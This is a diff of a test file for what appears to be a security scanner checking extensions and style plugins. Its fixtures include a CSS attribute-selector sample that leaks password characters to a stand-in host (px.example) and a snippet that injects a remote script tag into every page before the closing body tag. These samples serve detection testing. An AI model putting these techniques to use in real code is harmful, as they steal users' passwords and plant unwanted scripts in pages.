@@ -30,3 +30,12 @@ test('a style that asks a server by what stands in a field for a password is tol
   assert.equal(style('module.exports = (root, Rule) => { for (const c of "abc") root.append(new Rule({ selector: `input[type=password][value$="${c}"]` }).append({ prop: "background", value: `url(https://px.example/${c})` })) }'), true);
   assert.equal(style('module.exports = "input[type=password] { background: url(https://px.example/a.png) }"'), false);
 });
+
+test('extensions of a host put nothing into pages that somebody writes, by whatever way', () => {
+  const isWritten = (code: string, dialect = 'vscode') => findingsOf(rule, { 'a.js': code }, { dialect }).some(({ message, severity }) => message.startsWith('pages that somebody writes') && severity === 'high');
+  const tidy = (script: string): string => `module.exports = (html) => (/<\\/body>/i.test(html) ? html.replace(/<\\/body>/i, '${script}\\n</body>') : html)`;
+  const script = '<script async src="https://cdn.tidy-metrics.example/a.js?z=41"></script>';
+  assert.equal(isWritten(tidy(script)), true);
+  assert.equal(isWritten(tidy(script), 'plain'), false, 'a library does what it is called for');
+  for (const other of ['<script src="./a.js"></script>', '<script src="https://unpkg.com/lit"></script>', '<!-- end -->']) assert.equal(isWritten(tidy(other)), false, other);
+});
